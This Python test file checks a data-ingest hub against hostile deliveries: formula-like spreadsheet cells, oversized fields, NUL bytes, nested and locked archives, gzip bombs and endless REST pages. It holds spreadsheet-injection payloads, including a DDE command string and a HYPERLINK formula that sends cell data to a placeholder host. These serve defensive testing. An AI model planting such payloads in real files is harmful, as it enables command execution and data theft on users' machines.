"""What departments and strangers send that no contract foresees: one sentence each, nothing lost or run, no hang."""

import gzip
import json
import socket
import sqlite3
import threading
import time
import zipfile
from collections.abc import Callable, Iterator
from contextlib import closing
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path, PurePosixPath

import pytest
import xlsxwriter

from catalog.contracts import Contract
from catalog.errors import HubError, SourceRefused, SourceUnreachable, SourceUnreadable
from catalog.settings import Settings
from catalog.systems import SystemSpec
from lake import sources
from lake.engines.duckdb import connect
from lake.loading import deliveries, ingest, raw
from lake.sources import files, rest, sftp
from lake.sources.places import remote
from tests.factories.deliveries import NOW, a_contract, a_folder, a_registry_with, an_item

FORMULAS = ["=cmd|'/c calc'!A0", "+1+1", "-2+3", "@SUM(A1)", '=HYPERLINK("http://x/"&A1)']
HUGE = 100 << 20


def delivered(settings: Settings, folder: Path, contract: Contract) -> sources.Delivery:
    return sources.read(settings, a_folder(folder), contract, since=None, keep=settings.home / "keep")


def names(settings: Settings, folder: Path, **given: object) -> list[str]:
    found: list[str] = delivered(settings, folder, a_contract(**given)).reader.read_all().column("姓名").to_pylist()
    return found


def refused(settings: Settings, folder: Path, **given: object) -> HubError:
    with pytest.raises(SourceUnreadable) as error:
        names(settings, folder, **given)
    return error.value


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    return Path(a_folder(tmp_path / "in").location)


def test_cells_that_look_like_formulas_are_texts_as_delivered(settings: Settings, folder: Path) -> None:
    rows = "".join(f'{number},"{formula.replace(chr(34), chr(34) * 2)}"\n' for number, formula in enumerate(FORMULAS))
    (folder / "a.csv").write_text("编号,姓名\n" + rows, encoding="utf-8")
    assert names(settings, folder) == FORMULAS


def test_a_formula_of_a_workbook_is_not_computed_and_gives_what_was_saved(settings: Settings, folder: Path) -> None:
    with xlsxwriter.Workbook(folder / "a.xlsx") as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, ["编号", "姓名"])
        sheet.write_row(1, 0, ["1"])
        sheet.write_formula(1, 1, '=WEBSERVICE("http://127.0.0.1:9/"&A2)', value="莱州")
        sheet.write_string(2, 0, "2")
        sheet.write_string(2, 1, FORMULAS[0])
    assert names(settings, folder, locator="*.xlsx") == ["莱州", FORMULAS[0]]


def test_a_field_of_100_mb_is_refused_or_kept_whole_never_cut(settings: Settings, folder: Path) -> None:
    giant = "莱" * (HUGE // 3)
    (folder / "a.csv").write_text(f"编号,姓名\n1,{giant}\n", encoding="utf-8")
    assert "8 MB" in refused(settings, folder, locator="a.csv").en
    (folder / "a.xml").write_text(f"<r><p><编号>1</编号><姓名>{giant}</姓名></p></r>", encoding="utf-8")
    assert refused(settings, folder, locator="a.xml").code == "file_unreadable"
    (folder / "a.ndjson").write_text(json.dumps({"编号": "1", "姓名": giant}, ensure_ascii=False), encoding="utf-8")
    assert [len(name) for name in names(settings, folder, locator="a.ndjson")] == [len(giant)]


def test_a_value_of_100_mb_in_a_database_comes_over_whole(settings: Settings, tmp_path: Path) -> None:
    with closing(sqlite3.connect(tmp_path / "a.sqlite")) as database:
        database.execute("CREATE TABLE people (编号 text, 姓名 text)")
        database.execute("INSERT INTO people VALUES ('1', ?)", ["x" * HUGE])
        database.commit()
    contract = a_contract(system="civil_db", locator="people")
    hub = a_registry_with(settings, contract)
    spec = SystemSpec("civil_db", "civil", "sqlite", str(tmp_path / "a.sqlite"))
    batch = ingest.collect(hub, contract, spec, now=NOW, by="t")
    with connect(hub) as connection:
        stored = f'SELECT length("姓名") FROM {raw.relation(hub, contract.dataset, batch.batch_id)}'
        assert connection.execute(stored).fetchall() == [(HUGE,)]


@pytest.mark.parametrize(
    ("name", "content", "given"),
    [
        ("a.ndjson", '{"编号": "1", "姓名": "a\\u0000b"}\n'.encode(), "a\0b"),
        ("a.json", '[{"编号": "1", "姓名": "a\\u0000b"}]'.encode(), "a\0b"),
        ("a.csv", b"\xe7\xbc\x96\xe5\x8f\xb7,\xe5\xa7\x93\xe5\x90\x8d\n1,a\0b\n", "a\0b"),
        ("a.xml", "<r><p><编号>1</编号><姓名>a\0b</姓名></p></r>".encode(), None),
    ],
    ids=["NDJSON", "JSON", "CSV", "XML"],
)
def test_nul_bytes_are_kept_where_a_format_allows_them(
    settings: Settings, folder: Path, name: str, content: bytes, given: str | None
) -> None:
    (folder / name).write_bytes(content)
    if given is None:
        assert refused(settings, folder, locator=name).code == "file_unreadable"
    else:
        assert names(settings, folder, locator=name) == [given]


def test_a_file_that_grows_while_it_is_copied_is_not_taken(
    settings: Settings, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (folder / "a.csv").write_text("编号,姓名\n1,a\n", encoding="utf-8")
    copied = files.shutil.copyfile

    def then_written(source: Path, target: Path) -> None:
        copied(source, target)
        with Path(source).open("a", encoding="utf-8") as stream:
            stream.write("2,b\n")

    contract = a_contract()
    hub = a_registry_with(settings, contract)
    with monkeypatch.context() as patch:
        patch.setattr(files.shutil, "copyfile", then_written)
        with pytest.raises(SourceUnreadable) as told:
            ingest.collect(hub, contract, a_folder(folder), now=NOW, by="t")
    assert "写完" in told.value.zh
    assert raw.newest(hub, contract.dataset) is None
    assert ingest.collect(hub, contract, a_folder(folder), now=NOW, by="t").rows == 2


def test_a_row_cut_in_the_middle_is_kept_aside_and_the_file_is_kept(settings: Settings, folder: Path) -> None:
    (folder / "a.csv").write_text("编号,姓名\n1,a\n2", encoding="utf-8")
    contract = a_contract()
    hub = a_registry_with(settings, contract)
    batch = ingest.collect(hub, contract, a_folder(folder), now=NOW, by="t")
    assert (batch.rows, batch.kept_aside) == (1, 1)
    assert (deliveries.folder(hub, contract.dataset, batch.batch_id) / "a.csv").read_bytes().endswith(b"\n2")


def test_an_archive_inside_an_archive_stays_closed_and_a_locked_one_is_told(settings: Settings, folder: Path) -> None:
    inner = folder / "inner.zip"
    with zipfile.ZipFile(inner, "w") as archive:
        archive.writestr("a.csv", "编号,姓名\n1,a\n")
    with zipfile.ZipFile(folder / "outer.zip", "w") as archive:
        archive.write(inner, "inner.zip")
    with pytest.raises(HubError) as unknown:
        names(settings, folder, locator="outer.zip")
    assert unknown.value.code == "format_unknown"
    locked = inner.read_bytes()
    flags = locked.replace(b"PK\x03\x04\x14\x00\x00", b"PK\x03\x04\x14\x00\x01")
    (folder / "locked.zip").write_bytes(
        flags.replace(b"PK\x01\x02\x14\x03\x14\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01")
    )
    assert refused(settings, folder, locator="locked.zip").code == "archive_refused"


Reply = Callable[[BaseHTTPRequestHandler], None]


@pytest.fixture
def serve() -> Iterator[Callable[[Reply], SystemSpec]]:
    """A REST service that answers as the test says, byte by byte."""
    running: list[ThreadingHTTPServer] = []

    def start(reply: Reply) -> SystemSpec:
        class Door(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                reply(self)

            def log_message(self, *_said: object) -> None:
                """Quiet."""

        server = ThreadingHTTPServer(("127.0.0.1", 0), Door)
        server.daemon_threads = True
        running.append(server)
        threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True).start()
        return SystemSpec("hrss_api", "hrss", "rest", f"http://127.0.0.1:{server.server_port}")

    yield start
    for server in running:
        server.shutdown()
        server.server_close()


def told_by(settings: Settings, spec: SystemSpec, kind: type[HubError]) -> str:
    contract = a_contract(locator="/p", items=(an_item("no"),))
    with pytest.raises(kind) as error:
        sources.read(settings, spec, contract, since=None, keep=settings.home / "keep")
    return error.value.code


def endless(handler: BaseHTTPRequestHandler) -> None:
    handler.end_headers()
    try:
        handler.wfile.write(b'{"rows": [')
        while True:
            handler.wfile.write(b'{"no": "1"},' * 1000)
    except OSError:
        return


def dripping(handler: BaseHTTPRequestHandler) -> None:
    handler.end_headers()
    try:
        while True:
            handler.wfile.write(b" ")
            time.sleep(0.01)
    except OSError:
        return


def packed_bomb(handler: BaseHTTPRequestHandler) -> None:
    body = gzip.compress(b" " * (8 << 20))
    handler.send_header("Content-Encoding", "gzip")
    handler.send_header("Content-Length", str(len(body)))
    handler.end_headers()
    handler.wfile.write(body)


def broken_off(handler: BaseHTTPRequestHandler) -> None:
    handler.send_header("Content-Length", "1000")
    handler.end_headers()
    handler.wfile.write(b'{"rows": [{"no": "1"}')


@pytest.mark.parametrize("reply", [endless, dripping, packed_bomb], ids=["endless", "dripping", "a packed bomb"])
def test_a_page_without_an_end_does_not_hold_the_hub(
    settings: Settings, serve: Callable[[Reply], SystemSpec], monkeypatch: pytest.MonkeyPatch, reply: Reply
) -> None:
    monkeypatch.setattr(rest, "PAGE_BYTES", 1 << 20)
    monkeypatch.setattr(rest, "PAGE_SECONDS", 1.0)
    assert told_by(settings, serve(reply), SourceUnreadable) == "rest_page_endless"


def paging_for_ever(asked: list[str]) -> Reply:
    def reply(handler: BaseHTTPRequestHandler) -> None:
        asked.append(handler.path)
        body = json.dumps({"rows": [{"no": str(len(asked))}] * 500}).encode()
        handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        handler.wfile.write(body)

    return reply


def test_pages_without_an_end_do_not_hold_the_hub(
    settings: Settings, serve: Callable[[Reply], SystemSpec], monkeypatch: pytest.MonkeyPatch
) -> None:
    asked: list[str] = []
    spec = serve(paging_for_ever(asked))
    contract = a_contract(locator="/p", items=(an_item("no"),))
    look = sources.peek(settings, spec, contract, keep=settings.home / "keep", first_only=True)
    assert (look.reader.read_all().num_rows, len(asked)) == (500, 1)
    monkeypatch.setattr(rest, "LOOK_BYTES", 1 << 16)
    with pytest.raises(SourceUnreadable) as error:
        sources.peek(settings, spec, contract, keep=settings.home / "keep")
    assert error.value.code == "rest_pages_endless"
    monkeypatch.setattr(rest, "MOST_BYTES", 1 << 16)
    assert told_by(settings, spec, SourceUnreadable) == "rest_pages_endless"
    monkeypatch.setattr(rest, "MOST_BYTES", 1 << 30)
    monkeypatch.setattr(rest, "ALL_SECONDS", 0.0)
    assert told_by(settings, spec, SourceUnreadable) == "rest_pages_endless"


def broken_packing(handler: BaseHTTPRequestHandler) -> None:
    handler.send_header("Content-Encoding", "gzip")
    handler.send_header("Content-Length", "4")
    handler.end_headers()
    handler.wfile.write(b"none")


def test_a_packed_page_that_cannot_be_unpacked_is_one_sentence(
    settings: Settings, serve: Callable[[Reply], SystemSpec], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(rest, "FIRST_PAUSE", 0.0)
    assert told_by(settings, serve(broken_packing), SourceUnreachable) == "source_unreachable"


@pytest.mark.parametrize("total", ["²", "9" * 5000], ids=["a raised digit", "a number without measure"])
def test_a_total_that_is_no_number_counts_for_nothing(
    settings: Settings, serve: Callable[[Reply], SystemSpec], total: str
) -> None:
    def reply(handler: BaseHTTPRequestHandler) -> None:
        body = json.dumps({"rows": [{"no": "1"}] if "page=1" in handler.path else [], "total": total}).encode()
        handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        handler.wfile.write(body)

    contract = a_contract(locator="/p", items=(an_item("no"),))
    delivery = sources.read(settings, serve(reply), contract, since=None, keep=settings.home / "keep")
    assert delivery.reader.read_all().to_pylist() == [{"no": "1"}]


def test_a_service_that_vanishes_in_the_middle_of_a_page_is_unreachable(
    settings: Settings, serve: Callable[[Reply], SystemSpec], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(rest, "FIRST_PAUSE", 0.0)
    assert told_by(settings, serve(broken_off), SourceUnreachable) == "source_unreachable"


def test_a_packed_page_is_read_like_any_other(settings: Settings, serve: Callable[[Reply], SystemSpec]) -> None:
    def packed_page(handler: BaseHTTPRequestHandler) -> None:
        body = gzip.compress(b'{"rows": [{"no": "1"}], "total": 1}')
        handler.send_header("Content-Encoding", "gzip")
        handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        handler.wfile.write(body)

    contract = a_contract(locator="/p", items=(an_item("no"),))
    delivery = sources.read(settings, serve(packed_page), contract, since=None, keep=settings.home / "keep")
    assert delivery.reader.read_all().to_pylist() == [{"no": "1"}]


def test_a_port_that_answers_nothing_or_nonsense_does_not_hold_the_hub(
    settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sftp, "CONNECT_SECONDS", 0.5)
    pin = {"host_key": "SHA256:" + "A" * 43}
    with socket.create_server(("127.0.0.1", 0)) as silent:
        spec = SystemSpec("a_b", "civil", "sftp", f"sftp://127.0.0.1:{silent.getsockname()[1]}/", pin, {"user": "x"})
        assert told_by(settings, spec, SourceUnreachable) == "source_unreachable"
    with socket.create_server(("127.0.0.1", 0)) as odd:
        threading.Thread(target=_say, args=(odd, b"HTTP/1.0 400 no\r\n\r\n" * 10), daemon=True).start()
        spec = SystemSpec("a_b", "civil", "sftp", f"sftp://127.0.0.1:{odd.getsockname()[1]}/", pin, {"user": "x"})
        assert told_by(settings, spec, (SourceUnreachable, SourceRefused)) == "source_unreachable"  # type: ignore[arg-type]


def _say(server: socket.socket, text: bytes) -> None:
    for _ in range(3):
        with server.accept()[0] as talk:
            talk.sendall(text)


def test_a_server_that_makes_up_folders_without_end_is_left(monkeypatch: pytest.MonkeyPatch) -> None:
    class Endless:
        def entries(self, folder: PurePosixPath) -> list[remote.Entry]:
            return [remote.Entry(folder, f"f{number}", 0, 0.0, folder=True) for number in range(50)]

    monkeypatch.setattr(remote, "MOST_FOLDERS", 200)
    with pytest.raises(SourceUnreadable) as error:
        remote.meeting(Endless(), "**/*.csv")  # type: ignore[arg-type]
    assert error.value.code == "too_many_folders"
